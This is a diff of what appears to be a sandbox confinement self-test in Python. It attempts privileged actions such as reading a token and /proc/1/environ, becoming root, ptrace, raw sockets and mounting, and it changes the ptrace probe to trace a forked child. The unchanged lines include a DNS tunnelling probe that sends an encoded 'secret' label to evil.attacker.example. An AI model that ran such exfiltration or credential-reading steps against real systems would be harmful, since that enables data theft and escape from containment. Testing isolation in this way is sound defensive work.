@@ -69,8 +69,21 @@ def tunnel_by_dns():
     socket.getaddrinfo("c2VjcmV0." + str(os.getpid()) + ".evil.attacker.example", 80)
 
 
+def trace_another_process():
+    child = os.fork()
+    if child == 0:
+        time.sleep(60)
+        os._exit(0)
+    try:
+        ptrace_attach = 16
+        call(libc.ptrace, ptrace_attach, child, 0, 0)
+    finally:
+        os.kill(child, signal.SIGKILL)
+        os.waitpid(child, 0)
+
+
 def here():
-    ptrace_attach, clone_newuser, clone_newnet = 16, 0x10000000, 0x40000000
+    clone_newuser, clone_newnet = 0x10000000, 0x40000000
     attempt("read a token", read_token)
     attempt("read the runner's memory", lambda: read("/proc/1/environ"))
     attempt("overwrite the code", lambda: write("/airlock/main.py"))
@@ -80,7 +93,7 @@ def here():
     attempt("write the report", lambda: write("/dev/termination-log"))
     attempt("execute a file of its own", execute_own_file)
     attempt("become root", lambda: os.setuid(0))
-    attempt("trace a process", lambda: call(libc.ptrace, ptrace_attach, os.getppid(), 0, 0))
+    attempt("trace a process", trace_another_process)
     attempt("open a raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
     attempt("open a packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close())
     attempt("mount", lambda: call(libc.mount, b"none", b"/tmp", b"tmpfs", 0, None))
